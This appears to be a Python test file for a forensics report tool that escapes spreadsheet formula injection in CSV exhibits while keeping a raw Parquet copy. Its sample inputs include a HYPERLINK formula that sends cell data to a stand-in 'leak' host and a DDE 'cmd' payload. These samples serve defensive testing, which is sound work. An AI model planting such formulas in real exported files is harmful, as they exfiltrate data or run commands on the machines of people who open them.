"""Exhibit files: text cells a spreadsheet would read as a formula are escaped in the CSV, the
Parquet copy beside it keeps every cell as it was, numbers are never escaped."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.parquet as pq
import pytest

from forensics.report.exhibits import ExhibitWriter, formula_safe_sql

ESCAPED = ("=1+1", '=HYPERLINK("http://x.example/leak?d="&A1,"open")', "+41 22 555 01 01",
           "-2+3", "-0.5", "@SUM(A1:A9)", "\tindented", "\rcarriage", "\r\nline", "=", "-",
           "==中文", "@😀", "-é")
KEPT = ("", "plain", "'quoted already", " =leading space", "\n=after a newline", "a=b",
        "1-2", "0.5", "中文=1+1", "é@x", "😀=", "\u00a0=no-break space", "\uff1dfull-width",
        "\ufeff=bom")


@pytest.fixture
def con() -> duckdb.DuckDBPyConnection:
    return duckdb.connect()


def _escape(con: duckdb.DuckDBPyConnection, values: list[str | None]) -> list[str | None]:
    rows = con.execute(f"SELECT {formula_safe_sql('v')} FROM unnest($values) "
                       "WITH ORDINALITY AS t(v, n) ORDER BY n", {"values": values}).fetchall()
    return [r[0] for r in rows]


def _csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_formula_leads_get_an_apostrophe(con: duckdb.DuckDBPyConnection) -> None:
    """Unit: a cell beginning with =, +, -, @, tab or CR gets one leading apostrophe; any other
    cell (empty, non-ASCII, a formula character further in) and NULL are unchanged."""
    assert _escape(con, list(ESCAPED)) == ["'" + v for v in ESCAPED]
    assert _escape(con, [*KEPT, None]) == [*KEPT, None]


def test_rows_from_python_escape_text_but_not_numbers(con: duckdb.DuckDBPyConnection,
                                                      tmp_path: Path) -> None:
    """Numbers (negative ones too) are written as numbers; text that looks like a formula or a
    negative number is escaped in the CSV and unescaped in the Parquet copy."""
    rows: list[dict[str, Any]] = [
        {"name": "=cmd|' /C calc'!A0", "score": -0.5, "count": -3, "day": date(2026, 7, 1),
         "tags": ["+a", "b"], "note": "-0.5"},
        {"name": "中文", "score": 0.25, "count": 4, "day": None, "tags": [], "note": ""},
        {"name": "\tx", "score": None, "count": 0, "day": None, "tags": ["b"], "note": "@me"},
    ]
    columns = ["name", "score", "count", "day", "tags", "note"]
    exhibit = ExhibitWriter(tmp_path, con).add("mixed", "Mixed", "Mixed cells.", columns, rows)
    assert exhibit.rows == 3 and exhibit.path == "exhibits/EX-001-mixed.csv"
    assert exhibit.parquet_path == "exhibits/EX-001-mixed.parquet"
    assert _csv(tmp_path / exhibit.path) == [
        {"name": "'=cmd|' /C calc'!A0", "score": "-0.5", "count": "-3", "day": "2026-07-01",
         "tags": "'+a;b", "note": "'-0.5"},
        {"name": "中文", "score": "0.25", "count": "4", "day": "", "tags": "", "note": ""},
        {"name": "'\tx", "score": "", "count": "0", "day": "", "tags": "b", "note": "'@me"},
    ]
    copy = pq.read_table(tmp_path / exhibit.parquet_path).to_pylist()
    assert copy == [
        {"name": "=cmd|' /C calc'!A0", "score": "-0.5", "count": "-3", "day": "2026-07-01",
         "tags": "+a;b", "note": "-0.5"},
        {"name": "中文", "score": "0.25", "count": "4", "day": None, "tags": None, "note": None},
        {"name": "\tx", "score": None, "count": "0", "day": None, "tags": "b", "note": "@me"},
    ]


def test_rows_from_a_query_escape_text_columns_only(con: duckdb.DuckDBPyConnection,
                                                    tmp_path: Path) -> None:
    """Straight from SQL: VARCHAR and VARCHAR[] cells are escaped by the same rule, typed
    numbers are not, and the rows keep the query's order in both files."""
    sql = """SELECT * FROM (VALUES
                 (1, '=1+1', ['@a', 'b'], -0.5::DOUBLE, -7, 'plain'),
                 (2, chr(13) || 'cr', ['c'], 1.5::DOUBLE, 3, ''),
                 (3, '-1', NULL, NULL, NULL, '+x')) AS t(n, prompt, keys, score, delta, ua)
             ORDER BY n DESC"""
    exhibit = ExhibitWriter(tmp_path, con).add_query("q", "Q", "From a query.", sql, {})
    assert _csv(tmp_path / exhibit.path) == [
        {"n": "3", "prompt": "'-1", "keys": "", "score": "", "delta": "", "ua": "'+x"},
        {"n": "2", "prompt": "'\rcr", "keys": "c", "score": "1.5", "delta": "3", "ua": ""},
        {"n": "1", "prompt": "'=1+1", "keys": "'@a;b", "score": "-0.5", "delta": "-7",
         "ua": "plain"},
    ]
    assert pq.read_table(tmp_path / exhibit.parquet_path).to_pylist() == [
        {"n": "3", "prompt": "-1", "keys": None, "score": None, "delta": None, "ua": "+x"},
        {"n": "2", "prompt": "\rcr", "keys": "c", "score": "1.5", "delta": "3", "ua": None},
        {"n": "1", "prompt": "=1+1", "keys": "@a;b", "score": "-0.5", "delta": "-7",
         "ua": "plain"},
    ]


def test_both_files_are_the_same_bytes_on_a_rerun(tmp_path: Path) -> None:
    """The CSV and its Parquet copy are byte-identical when the same rows are written again,
    and the inventory entry carries each file's size and SHA-256."""
    import hashlib

    rows = [{"k": f"={i}", "v": i / 7} for i in range(5000)]
    written = []
    for run in ("a", "b"):
        (tmp_path / run).mkdir()
        written.append(ExhibitWriter(tmp_path / run, duckdb.connect()).add(
            "big", "Big", "Many rows.", ["k", "v"], rows))
    first, second = written
    assert (first.sha256, first.parquet_sha256) == (second.sha256, second.parquet_sha256)
    for path, digest, size in ((first.path, first.sha256, first.size),
                               (first.parquet_path, first.parquet_sha256, first.parquet_size)):
        data = (tmp_path / "a" / path).read_bytes()
        assert hashlib.sha256(data).hexdigest() == digest and len(data) == size
